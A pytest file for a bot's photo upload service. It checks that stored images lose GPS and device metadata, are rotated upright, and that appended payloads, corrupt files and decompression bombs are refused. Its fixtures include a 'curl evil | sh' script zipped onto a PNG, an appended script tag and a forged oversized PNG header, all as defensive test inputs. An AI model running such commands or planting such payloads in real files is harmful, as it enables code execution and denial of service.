"""Stored photos are re-encoded: no metadata, nothing appended, nothing undecodable or huge."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import ExifTags, Image, PngImagePlugin

from bot.service.photos import save_photo
from knowledge.errors import InvalidInputError

RED, BLUE = (220, 20, 20), (20, 20, 220)


def two_colour(size: tuple[int, int] = (40, 20)) -> Image.Image:
    """Left half red, right half blue: shows which way a picture was turned."""
    image = Image.new("RGB", size, BLUE)
    image.paste(RED, (0, 0, size[0] // 2, size[1]))
    return image


def encoded(image: Image.Image, fmt: str, **params: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def with_ihdr_size(png: bytes, width: int, height: int) -> bytes:
    """A PNG whose header claims another size than its (tiny) data holds."""
    body = b"IHDR" + struct.pack(">II", width, height) + png[24:29]
    return png[:12] + body + struct.pack(">I", zlib.crc32(body)) + png[33:]


def stored(uploads: Path, name: str) -> bytes:
    return (uploads / "t1" / name).read_bytes()


def close_to(pixel: tuple[int, ...], colour: tuple[int, int, int]) -> bool:
    return all(abs(a - b) < 40 for a, b in zip(pixel, colour, strict=False))


def test_a_jpeg_loses_its_gps_exif_and_stays_upright(tmp_path: Path):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # the camera was turned: show rotated 90° clockwise
    exif[ExifTags.Base.Model] = "Worker Phone 12"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (31.0, 14.0, 5.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (121.0, 28.0, 9.0),
    }
    original = encoded(two_colour(), "JPEG", exif=exif, comment=b"site 7")
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test means it

    name = save_photo(tmp_path, "t1", original)
    assert name.endswith(".jpg")
    with Image.open(io.BytesIO(stored(tmp_path, name))) as image:
        assert image.format == "JPEG" and not image.getexif()
        assert not {"exif", "comment", "icc_profile", "xmp"} & image.info.keys()
        assert image.size == (20, 40)  # upright: the left (red) edge is now the top
        assert close_to(image.getpixel((10, 5)), RED) and close_to(image.getpixel((10, 35)), BLUE)
    assert b"Worker Phone" not in stored(tmp_path, name)


def test_png_and_webp_keep_their_format_and_lose_text_and_icc(tmp_path: Path):
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "GPS 31.2N 121.4E")
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = "Worker Phone 12"
    rgba = two_colour().convert("RGBA")
    rgba.paste((0, 0, 0, 0), (0, 0, 10, 10))  # some transparency, which must survive
    icc = b"fake-icc-profile-naming-the-device"
    for fmt, ext, params in (
        ("PNG", ".png", {"pnginfo": text, "exif": exif}),
        ("WEBP", ".webp", {"exif": exif, "xmp": b"<x:xmpmeta>gps</x:xmpmeta>"}),
    ):
        name = save_photo(tmp_path, "t1", encoded(rgba, fmt, icc_profile=icc, **params))
        data = stored(tmp_path, name)
        assert name.endswith(ext) and b"Worker Phone" not in data and icc not in data and b"GPS" not in data
        with Image.open(io.BytesIO(data)) as image:
            assert image.format == fmt and image.mode == "RGBA" and not image.getexif()
            assert not {"exif", "icc_profile", "xmp"} & image.info.keys()


def test_appended_payloads_are_dropped(tmp_path: Path):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("run.sh", "curl evil | sh")
    png = encoded(two_colour(), "PNG")
    name = save_photo(tmp_path, "t1", png + archive.getvalue())
    data = stored(tmp_path, name)
    assert data.endswith(b"IEND\xaeB`\x82") and b"PK\x03\x04" not in data and b"run.sh" not in data
    jpeg = save_photo(tmp_path, "t1", encoded(two_colour(), "JPEG") + b"<script>alert(1)</script>")
    assert b"<script>" not in stored(tmp_path, jpeg)


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,  # the right magic bytes, then nothing
        encoded(two_colour((400, 300)), "JPEG")[:600],  # cut short mid-scan
        encoded(two_colour(), "PNG")[:-30],  # the image data damaged
        b"RIFF\x10\x00\x00\x00WEBPVP8 garbage",
    ],
    ids=["png-magic-only", "jpeg-cut-short", "png-damaged", "webp-garbage"],
)
def test_a_file_that_does_not_decode_is_refused(tmp_path: Path, data: bytes):
    with pytest.raises(InvalidInputError, match=r"^photo: the file does not decode"):
        save_photo(tmp_path, "t1", data)
    assert not (tmp_path / "t1").exists() or not any((tmp_path / "t1").iterdir())


@pytest.mark.parametrize("width, height", [(7_000, 7_000), (100_000, 100_000)])
def test_decompression_bombs_are_refused_before_decoding(tmp_path: Path, width: int, height: int):
    """49 MP trips our cap; 10 gigapixels trips Pillow's own, inside ``Image.open``."""
    bomb = with_ihdr_size(encoded(Image.new("1", (1, 1)), "PNG"), width, height)
    assert len(bomb) < 100
    with pytest.raises(InvalidInputError, match=r"^photo: more than 40 megapixels"):
        save_photo(tmp_path, "t1", bomb)


def test_the_pixel_cap_applies_to_real_image_data(tmp_path: Path):
    png = encoded(Image.new("1", (2_000, 1_000)), "PNG", optimize=True)  # compresses to almost nothing
    with pytest.raises(InvalidInputError, match=r"more than 1 megapixels.*2000x1000"):
        save_photo(tmp_path, "t1", png, max_pixels=1_000_000)
    assert save_photo(tmp_path, "t1", png, max_pixels=2_000_000).endswith(".png")


def test_size_and_type_checks_still_come_first(tmp_path: Path):
    with pytest.raises(InvalidInputError, match="10 MB"):
        save_photo(tmp_path, "t1", b"\xff\xd8\xff" + b"0" * (10 * 1024 * 1024))
    with pytest.raises(InvalidInputError, match="only JPEG, PNG or WebP"):
        save_photo(tmp_path, "t1", encoded(two_colour(), "GIF"))
